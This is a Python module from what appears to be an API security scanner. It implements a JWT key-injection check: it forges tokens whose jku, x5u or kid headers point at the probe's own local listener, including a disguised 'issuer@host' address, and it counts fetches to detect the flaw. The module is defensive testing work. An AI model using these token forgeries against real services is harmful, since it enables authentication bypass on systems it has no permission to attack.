"""AP-JWT-04."""

import json
from urllib.parse import urlsplit

from cryptography.hazmat.primitives.serialization import Encoding

from doorward.probe.finding import Finding, succeeded
from doorward.probe.forgery import Forged, Jwt, Signer, attacker, certificate, without
from doorward.probe.lab import Lab
from doorward.probe.listener import Listener
from doorward.probe.token_attack import TokenAttack, genuine, judge, show


class KeyByAddress(TokenAttack):
    """A token that says where to fetch its key."""

    id = "AP-JWT-04"
    title = "Keys fetched from where the token says (jku, x5u)"
    sources = ("RFC 8725 2.9", "API7")
    does = "Signs tokens with a key of the probe's own, whose address is a listener of the probe that counts fetches."
    mend = "Never fetch an address that a token names; take the issuer's key set from configuration."
    short = True

    def limits_of(self, signer: Signer) -> str:
        """A listener on loopback sees a target on this machine only."""
        del signer
        return "No fetch was seen by the probe's listener on this machine."

    async def attack(self, lab: Lab) -> Finding:
        """Judge by fetches first, then by answers."""
        jwt = await genuine(lab)
        async with Listener() as listener:
            keys = {"keys": [attacker().public_jwk(), {**attacker().public_jwk(), "kid": jwt.header.get("kid")}]}
            listener.documents = {
                "/jwks.json": json.dumps(keys).encode(),
                "/cert.pem": certificate(attacker()).public_bytes(Encoding.PEM),
            }
            shown = await show(lab, _tokens(jwt, listener.url))
            finding = await judge(lab, shown, self.limits_of(attacker()))
            fetched = len(listener.fetched)
        if fetched:
            return succeeded(f"The target fetched {fetched} times from an address in a token.", shown[0].reply,
                             fetches=fetched)  # fmt: skip
        return finding


def _tokens(jwt: Jwt, url: str) -> list[Forged]:
    key, host = attacker(), urlsplit(url).netloc
    issuer = urlsplit(str(jwt.claims.get("iss", ""))).netloc or "issuer"
    own = {**jwt.header, "kid": key.key_id}
    headers = {
        "jku": {**own, "jku": f"{url}/jwks.json"},
        "jku and the issuer's kid": {**jwt.header, "jku": f"{url}/jwks.json"},
        "jku without kid": {**without(jwt.header, "kid"), "jku": f"{url}/jwks.json"},
        "jku behind the issuer's name": {**own, "jku": f"http://{issuer}@{host}/jwks.json"},
        "x5u": {**own, "x5u": f"{url}/cert.pem"},
        "x5u and the issuer's kid": {**jwt.header, "x5u": f"{url}/cert.pem"},
        "an address as kid": {**jwt.header, "kid": f"{url}/jwks.json"},
    }
    return [Forged(name, key.sign(header, jwt.claims)) for name, header in headers.items()]
